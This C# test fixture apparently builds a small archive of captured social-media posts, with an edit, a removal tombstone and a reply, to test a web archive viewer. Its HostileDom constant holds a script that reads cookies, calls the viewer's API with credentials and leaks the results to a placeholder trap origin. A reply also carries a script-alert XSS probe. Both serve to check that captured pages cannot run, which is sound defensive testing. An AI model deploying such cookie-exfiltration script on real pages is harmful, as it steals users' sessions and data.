using System.Text;
using Collector.Model;
using Collector.Storage;
using Collector.Storage.Sqlite;

namespace Collector.Web.Tests;

/// <summary>
/// A small archive written through the archive's own contract: a post seen twice with an edit between (two versions),
/// a post proven removed by a later capture (tombstone), a reply, and on the first capture a screenshot and a DOM whose
/// script tries to reach the UI (its cookies, its API).
/// </summary>
public sealed class SmallArchive : IAsyncDisposable
{
    public static readonly DateTimeOffset T0 = new(2026, 3, 1, 12, 0, 0, TimeSpan.Zero);

    /// <summary>The captured page: it would rename itself, read cookies, and call the UI's API if its script ran.</summary>
    public const string HostileDom = """
        <!doctype html><html><head><title>captured page</title></head><body><h1 id="headline">Captured headline</h1>
        <img src="TRAP_ORIGIN/tracker.png" alt="">
        <script>
          document.title = 'script ran';
          var stolen = '';
          try { stolen = document.cookie; } catch (e) { stolen = 'denied'; }
          try { stolen += '|' + parent.document.cookie; } catch (e) { }
          new Image().src = 'TRAP_ORIGIN/leak?cookie=' + encodeURIComponent(stolen);
          fetch('UI_ORIGIN/api/posts', { credentials: 'include' })
            .then(r => r.text()).then(t => { new Image().src = 'TRAP_ORIGIN/leak?api=' + encodeURIComponent(t.slice(0, 50)); });
          fetch('/api/posts').then(r => r.text()).then(t => { new Image().src = 'TRAP_ORIGIN/leak?same=' + encodeURIComponent(t.slice(0, 50)); });
          document.getElementById('headline').textContent = 'script ran';
        </script></body></html>
        """;

    private SmallArchive(string folder, IArchive archive)
    {
        Folder = folder;
        Archive = archive;
    }

    public string Folder { get; }

    public IArchive Archive { get; }

    public static PostKey Edited => new("reddit", "p1");

    public static PostKey Removed => new("reddit", "p2");

    public static PostKey Reply => new("reddit", "p3");

    /// <summary>An empty archive in a temp folder (filled by <see cref="FillAsync"/> once the UI's origin is known).</summary>
    public static SmallArchive Open()
    {
        var folder = Path.Combine(Path.GetTempPath(), "collector-web-" + Guid.NewGuid().ToString("n"));
        Directory.CreateDirectory(folder);
        return new SmallArchive(folder, SqliteArchive.Open(Path.Combine(folder, "collector.db"), TimeProvider.System));
    }

    /// <summary>Records the captures; the hostile DOM aims at <paramref name="uiOrigin"/> (e.g. http://127.0.0.1:PORT) and sends what it gets to <paramref name="trapOrigin"/>.</summary>
    public async Task FillAsync(string uiOrigin, string trapOrigin)
    {
        var archive = Archive;
        var dom = HostileDom.Replace("UI_ORIGIN", uiOrigin, StringComparison.Ordinal).Replace("TRAP_ORIGIN", trapOrigin, StringComparison.Ordinal);
        var shot = await archive.Artifacts.PutAsync(new ArtifactContent(ArtifactKinds.Screenshot, Png1x1, "image/png"));
        var domRef = await archive.Artifacts.PutAsync(new ArtifactContent(ArtifactKinds.Dom, Encoding.UTF8.GetBytes(dom), "text/html"));
        var raw = await archive.Artifacts.PutAsync(new ArtifactContent(ArtifactKinds.Raw, Encoding.UTF8.GetBytes("<html>raw <b>bytes</b></html>"), "text/html"));

        var first = Capture("c1", T0, Post("p1", "The quick brown fox jumps over the lazy dog"), Post("p2", "A post that will be deleted soon"),
            Post("p3", "<script>alert('x')</script> a reply in <b>markup</b>", parent: "p1")) with { Artifacts = [shot, domRef, raw] };
        await archive.RecordCaptureAsync(first, CaptureContext.None);
        await archive.RecordCaptureAsync(Capture("c2", T0.AddHours(6), Post("p1", "The quick red fox leaps over the lazy dog", likes: 40)), CaptureContext.None);
        await archive.RecordCaptureAsync(Capture("c3", T0.AddHours(7)) with
        {
            Outcome = PageOutcome.Removed,
            HttpStatus = 404,
            SubjectPost = Removed,
            RequestUrl = "https://example.test/reddit/p2",
            FinalUrl = "https://example.test/reddit/p2",
        }, CaptureContext.None);
    }

    public async ValueTask DisposeAsync()
    {
        await Archive.DisposeAsync();
        try
        {
            Directory.Delete(Folder, recursive: true);
        }
        catch (IOException)
        {
            // a temp folder left behind is harmless
        }
    }

    public static Post Post(string id, string text, long? likes = 10, string? parent = null) => new()
    {
        Platform = "reddit",
        Id = id,
        Url = $"https://example.test/reddit/{id}",
        Author = new Author { Id = "a-" + id, Handle = "handle_" + id },
        Title = "Title " + id,
        Text = text,
        Community = "r/test",
        ParentId = parent,
        PublishedAt = T0.AddDays(-1),
        Metrics = new Metrics { Likes = likes, Score = likes * 2 },
    };

    /// <summary>A content capture of a listing page (platform of its first post) seeing <paramref name="posts"/>.</summary>
    public static Capture Capture(string id, DateTimeOffset at, params Post[] posts) => new()
    {
        Id = id,
        RequestUrl = "https://example.test/r/test/" + id,
        FinalUrl = "https://example.test/r/test/" + id,
        HttpStatus = 200,
        FetchedAt = at,
        Platform = posts.FirstOrDefault()?.Platform ?? "reddit",
        Source = "src",
        RunId = "run-1",
        Posts = posts,
    };

    /// <summary>A valid 1×1 PNG.</summary>
    public static readonly byte[] Png1x1 = Convert.FromBase64String(
        "iVBORw0KGgoAAAANSUhEUgAAAAEAAAABCAYAAAAfFcSJAAAADUlEQVR42mP8z8BQDwAEhQGAhKmMIQAAAABJRU5ErkJggg==");
}
